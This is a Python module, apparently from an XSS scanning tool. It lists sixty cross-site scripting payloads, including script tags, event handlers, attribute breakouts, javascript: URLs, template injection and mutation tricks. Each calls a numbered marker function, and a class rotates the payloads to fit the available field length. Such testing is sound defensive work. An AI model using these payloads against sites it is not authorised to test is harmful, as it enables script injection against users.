"""Sixty texts that would run a script, load something or break out of their place if a page did not show them as text.

Each calls the function `_x` with its own number, so that what ran can be told. The name is short: many columns are.
"""

from collections import Counter, defaultdict

# `(#)` stands for the number. Kinds after OWASP's cheat sheet on filter evasion, PortSwigger's list of tags and events, and
# what is written about mutation (mXSS). Other places than element content: attributes, titles, text areas, comments, JSON.
WRITTEN = (
    # scripts
    "<script>_x(#)</script>",
    "<script>_x(#)",
    "<ScRiPt>_x(#)</sCrIpT>",
    "<script src=data:,_x(#)></script>",
    "<script type=module>_x(#)</script>",
    "<script\n>_x(#)</script\n>",
    "</script><script>_x(#)</script>",
    '"};_x(#);//',
    "';_x(#);//",
    "`;_x(#);//${_x(#)}",
    "\\u003cscript\\u003e_x(#)\\u003c/script\\u003e",
    "<<script>_x(#);//<</script>",
    # events
    "<svg onload=_x(#)>",
    "<svg/onload=_x(#)>",
    "<img src=x onerror=_x(#)>",
    "<img src=x:x onerror=&#95;x(#)>",
    "<body onload=_x(#)>",
    "<input autofocus onfocus=_x(#)>",
    "<details open ontoggle=_x(#)>",
    "<video><source onerror=_x(#)></video>",
    "<audio src onerror=_x(#)>",
    "<marquee onstart=_x(#)>x</marquee>",
    "<b onmouseover=_x(#)>x</b>",
    "<style>@keyframes y{}</style><b style=animation-name:y onanimationstart=_x(#)>",
    "<iframe onload=_x(#)>",
    "<object onerror=_x(#) data=x:x>",
    "<link rel=stylesheet href=x:x onerror=_x(#)>",
    # out of an attribute, and of elements that hold text
    '" onmouseover="_x(#)" x="',
    "' onfocus='_x(#)' autofocus tabindex=1 x='",
    '"><svg onload=_x(#)>',
    "'><svg onload=_x(#)>",
    "--><svg onload=_x(#)>",
    "</textarea><svg onload=_x(#)>",
    "</title><svg onload=_x(#)>",
    "</option></select><svg onload=_x(#)>",
    "</style><svg onload=_x(#)>",
    "</td></tr></table><svg onload=_x(#)>",
    "]]><svg onload=_x(#)>",
    # addresses
    "javascript:_x(#)",
    "JaVaScRiPt:_x(#)//https://example.org",
    "java\tscript:_x(#)",
    "<a href=javascript:_x(#)>here</a>",
    "data:text/html,<script>_x(#)</script>",
    "<iframe src=data:text/html,<script>parent._x(#)</script>>",
    '<iframe srcdoc="<script>parent._x(#)</script>">',
    "<meta http-equiv=refresh content='0;url=javascript:_x(#)'>",
    "<base href=javascript:_x(#)//>",
    "<form action=javascript:_x(#)><button autofocus>here</button></form>",
    "<math><a xlink:href=javascript:_x(#)>here</a></math>",
    # templates and expressions, of the server and of the figures
    "{{7*7}}{{_x(#)}}",
    "{% debug %}{{ settings.SECRET_KEY }}<!--_x(#)-->",
    "${_x(#)}#{_x(#)}<%= _x(#) %>",
    "datum[constructor.constructor('_x(#)')()]",
    "{{constructor.constructor('_x(#)')()}}",
    # style
    "<style>@import'/x?_x(#)';*{color:red}</style>",
    "<p style=position:fixed;inset:0;background:url(/x?_x(#))>",
    # parsed twice, or in another alphabet
    "<svg><style><img title='</style><img src=x onerror=_x(#)>'>",
    "<noscript><p title='</noscript><img src=x onerror=_x(#)>'>",
    "+ADw-script+AD4-_x(#)+ADw-/script+AD4-",
    "&lt;script&gt;_x(#)&lt;/script&gt;&#60;svg onload=_x(#)&#62;",
)
PAYLOADS = tuple(text.replace("(#)", f"({number})") for number, text in enumerate(WRITTEN, start=1))


class Cycle:
    """Gives out the payloads: to each place those that it had least, and of them the one that was least used at all."""

    def __init__(self) -> None:
        self.given: Counter[int] = Counter()
        self.given_to: dict[str, Counter[int]] = defaultdict(Counter)

    def text(self, room: int | None, place: str = "") -> str | None:
        """A payload of so many characters at most (None: of any length); None where none is as short."""
        fitting = payloads_for(room)
        if not fitting:
            return None
        chosen = min(fitting, key=lambda number: (self.given_to[place][number], self.given[number]))
        self.given[chosen] += 1
        self.given_to[place][chosen] += 1
        return PAYLOADS[chosen]


def payloads_for(room: int | None) -> list[int]:
    """The positions of those that fit into so many characters."""
    return [number for number, text in enumerate(PAYLOADS) if room is None or len(text) <= room]
